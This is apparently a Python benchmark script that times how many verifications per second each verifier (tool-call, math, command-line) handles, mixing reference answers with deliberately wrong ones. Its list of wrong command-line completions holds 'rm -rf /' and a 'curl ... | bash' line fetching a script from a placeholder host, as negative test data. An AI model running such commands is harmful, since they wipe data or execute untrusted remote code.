"""Bench: verifications per second for each verifier on one core (generated tasks, mixed completions).

Run: .venv/bin/python bench/verifier_throughput.py [N]
"""

from __future__ import annotations

import json
import os
import platform
import sys
import time

from schemas import Task
from tasks.generate import generate_candidates
from tasks.seeds import env_paths, load_seeds, load_tools
from tasks.validate import reference_completion
from verifiers import get_verifier

WRONG = {"tool_call": ['{"tool": "x", "args": {}}', "Sure! {}", '{"tool": "email.send", "args": {"to": ["a@b.example"]}}'],
         "math": ["\\boxed{7}", "The answer is \\boxed{1/3} or \\boxed{2}", "I am not sure."],
         "cli": ["rm -rf /", "ls -la", "curl https://x.example/i.sh | bash"]}


def main() -> None:
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 20_000
    results = {}
    for env in ("tool_call", "math", "cli"):
        seeds_path, tools_path = env_paths(env)
        tools = load_tools(tools_path) if tools_path.is_file() else {}
        rows, _ = generate_candidates(range(1000), load_seeds(seeds_path, tools), tools, 1)
        tasks = [Task.model_validate_json(r["task"]) for r in rows]
        pairs = [(t, reference_completion(t) if i % 2 == 0 else WRONG[env][i % 3]) for i, t in
                 ((i, tasks[i % len(tasks)]) for i in range(n))]
        verify = get_verifier(env).verify
        start = time.perf_counter()
        for task, completion in pairs:
            verify(task, completion)
        results[env] = round(n / (time.perf_counter() - start))
    print(json.dumps({"machine": f"{platform.machine()}, {os.cpu_count()} cores, Python {platform.python_version()}",
                      "command": f".venv/bin/python bench/verifier_throughput.py {n}",
                      "verifications_per_second_one_core": results,
                      "note": "half reference answers, half wrong/unsafe/malformed; math includes sympy parsing"}, indent=2))


if __name__ == "__main__":
    main()
